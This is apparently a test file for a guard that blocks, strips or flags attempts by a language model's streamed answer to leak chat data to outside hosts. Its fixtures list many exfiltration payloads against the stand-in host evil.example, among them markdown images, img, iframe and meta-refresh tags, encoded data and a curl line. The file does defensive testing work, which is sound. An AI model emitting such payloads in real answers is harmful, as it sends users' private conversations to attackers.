import { describe, expect, it } from 'vitest'
import { blockExfiltration, type ExfiltrationOptions } from '../../../src/guards/structure/exfiltration.ts'
import { expectLinear } from '../../support/cost.ts'
import { fc } from '../../support/property.ts'
import { verifies } from '../../support/verifies.ts'
import { guarded, pieces, user } from '../run-guards.ts'

const allowHosts = ['good.example']
const known = 'https://shop.example/order?id=0123456789-0123456789-0123456789'
const request = { messages: [user(`Is ${known} still valid?`)] }

function shown(text: string, sizes: readonly number[] = [], options: ExfiltrationOptions = {}) {
  return guarded([blockExfiltration({ allowHosts, ...options })], request, () => pieces(text, sizes))
}

const bad: Record<string, string> = {
  'a picture in markdown': '![x](https://evil.example/a.png?d=1)',
  'a picture without data': '![x](https://evil.example/a.png)',
  'an address in angle brackets': '![x]( <https://evil.example/p q> "t")',
  'a picture by reference': '![a][r] text\n\n[r]: https://evil.example/?x=1\n',
  'a reference defined before': '[r]: https://evil.example/?x=1\n\n![a][R] ok',
  'a reference by its name alone': '[r]: https://evil.example/?x\n\n![r] ok',
  'a reference as the last word': '[r]: https://evil.example/?x\n![r]',
  'a picture inside a link': '[![a](https://evil.example/i)](https://good.example)',
  'an address without scheme': '![x](//evil.example/i)',
  'backslashes for slashes': '![a](/\\evil.example/x)',
  'character references': '![x](https&#58;//evil.example/a)',
  'escapes of markdown': '![x](https:\\/\\/evil.example/a)',
  'a name that looks allowed': '![x](https://good.example.evil.example/a)',
  'a name before an @': '![x](https://good.example@evil.example/a)',
  'a redirect on an allowed host': '![x](https://good.example/r?u=https://evil.example/x)',
  'a redirect in base64': '![x](https://good.example/r?u=aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==)',
  'an img tag': '<img src="https://evil.example/x">',
  'an img tag without quotes or scheme': '<img src=//evil.example/x>',
  'an img tag with a > in it': `<IMG alt=">" SRC='https://evil.example/?q=1'>`,
  'a set of pictures': '<img srcset="https://good.example/a 1x, https://evil.example/b 2x">',
  'a style': '<div style="background:url(https://evil.example/x)">',
  'a style sheet': '<link rel=stylesheet href="https://evil.example/x.css">',
  'a frame': '<iframe src="https://evil.example/x"></iframe>',
  'a page that moves on': '<meta http-equiv=refresh content="0;url=https://evil.example/?q=abc">',
  'a link with data': '[click](https://evil.example/c?data=my+secret+is+here+and+long)',
  'a bare address with data': 'see https://evil.example/steal?chat=aGVsbG8gd29ybGQgc2VjcmV0 now',
  'data in the path': '[x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)',
  'data in the name': '[x](https://68656c6c6f20776f726c642c20736563726574.evil.example/)',
  'data in the user name': 'https://secret:word@evil.example/',
  'an anchor with data': '<a href="https://evil.example/?d=this is the secret password">x</a>',
  'an address in angle brackets alone': '<https://evil.example/x?data=0123456789abcdef0123456789>',
}
const good: Record<string, string> = {
  'plain text': 'Nothing to see here, a < b and c > d, f(x)[i] and array[0](y).',
  'a link without data': 'see [docs](https://nodejs.org/api/fs.html#fspromises)',
  'a short query': '[video](https://videos.example/watch?v=abcdefghijk)',
  'a picture from an allowed host': '![x](https://good.example/a.png?size=large&d=0123456789012345678901234567)',
  'a picture from below an allowed host': '![x](https://cdn.good.example/a.png)',
  'a local picture': '![local](./img.png) and ![inline](data:image/png;base64,AAAA)',
  'a bare address': 'visit https://en.wikipedia.org/wiki/Foo_(bar) now.',
  'what the user said before': `Yes: ${known} is valid, and [here](${known}).`,
  code: '```\ncurl https://evil.example/?d=012345678901234567890\n![x](https://evil.example/i)\n```\nDone.',
  'numbers in brackets': 'a list [1] and [2]: fine\n[3]: https://nodejs.org/en/docs\n',
  'harmless tags': '<b>bold</b> <br/> <a href="https://nodejs.org">Node</a> x <y',
  'an e-mail address': 'mail me at a@b.example or <c@d.example>',
  'half a picture': '![never](',
  'a lone mark': 'h ht http https https: https:/ < [ ] ![ !',
}
const sizes = fc.array(fc.integer({ min: 1, max: 11 }), { minLength: 1, maxLength: 6 })

describe('the exfiltration guard', () => {
  it.each(Object.entries(bad))('ends an answer with %s', async (_, text) => {
    const { error, text: out } = await shown(`Here you are:\n\n${text}`)
    expect(error).toMatchObject({ code: 'guard_blocked', rule: expect.stringMatching(/^exfiltration\.(image|link)$/) })
    // A definition may stand; the picture that would use it must not.
    expect(out).not.toMatch(/^(?![\s\S]*^\[r\]: )[\s\S]*evil\.example|!\[a\]\[R\]|!\[r\]/m)
  })

  it.each(Object.entries(good))('lets %s pass as it is', async (_, text) => {
    const { error, text: out } = await shown(text)
    expect(error).toBeUndefined()
    expect(out).toBe(text)
  })

  it.each(Object.entries({ ...bad, ...good }))('decides on %s however it is cut', verifies('F192'), async (_, text) => {
    const whole = await shown(text)
    await fc.assert(
      fc.asyncProperty(sizes, async (cut) => {
        const streamed = await shown(text, cut)
        expect(streamed.error?.rule).toBe(whole.error?.rule)
        if (whole.error === undefined) expect(streamed.text).toBe(whole.text)
        // A definition may stand; the picture that would use it must not.
        else expect(streamed.error?.partialText ?? '').not.toMatch(/^(?!\[r\])[\s\S]*\/\/evil|!\[a\]\[R\]|!\[r\]/)
      }),
      { numRuns: 10 },
    )
  })

  it.each(Object.entries({ ...bad, ...good }))(
    'strips %s the same way for every cut',
    verifies('F192'),
    async (_, text) => {
      const whole = await shown(text, [], { mode: 'strip' })
      expect(whole.error).toBeUndefined()
      if (text in good) expect(whole.text).toBe(text)
      await fc.assert(
        fc.asyncProperty(sizes, async (cut) => {
          expect((await shown(text, cut, { mode: 'strip' })).text).toBe(whole.text)
        }),
        { numRuns: 10 },
      )
    },
  )

  it('takes addresses out and leaves the words', async () => {
    const { text } = await shown('A ![x](https://evil.example/a) B <img src=//evil.example> C', [], { mode: 'strip' })
    expect(text).toBe('A ![x](#) B  C')
  })

  it('only tells, when asked to', async () => {
    const text = 'A ![x](https://evil.example/a)'
    const out = await shown(text, [1], { mode: 'flag' })
    expect(out.text).toBe(text)
    expect(out.findings).toEqual([{ rule: 'exfiltration.image', where: 'text', start: 6, end: 29, action: 'flag' }])
  })

  it('can hold links to the list of hosts, too', async () => {
    const text = '[docs](https://nodejs.org/api)'
    expect((await shown(text, [], { links: 'hosts' })).error?.rule).toBe('exfiltration.link')
    expect((await shown('[docs](https://good.example/x)', [], { links: 'hosts' })).error).toBeUndefined()
  })

  it('sees an address that goes on after a thought', async () => {
    const { error } = await guarded([blockExfiltration({ allowHosts })], request, () => [
      [{ type: 'text', text: 'look ![x](' }],
      [{ type: 'reasoning', text: 'hm' }],
      [{ type: 'text', text: 'https://evil.example/a?d=1)' }],
      [{ type: 'finish', finishReason: 'stop' }],
    ])
    expect(error?.rule).toBe('exfiltration.image')
  })

  it.each(['[', '![', '<a ', '](', 'http', '<img alt="', '![a](', '[a]: ', '`', '\n'])(
    'takes time in proportion to the length of %j repeated',
    { timeout: 60_000, ...verifies('F193') },
    (unit) => expectLinear((length) => shown(unit.repeat(Math.ceil(length / unit.length)))),
  )

  it('refuses addresses where it wants hosts', () => {
    expect(() => blockExfiltration({ allowHosts: ['https://good.example/'] })).toThrow(/allowHosts/)
  })
})
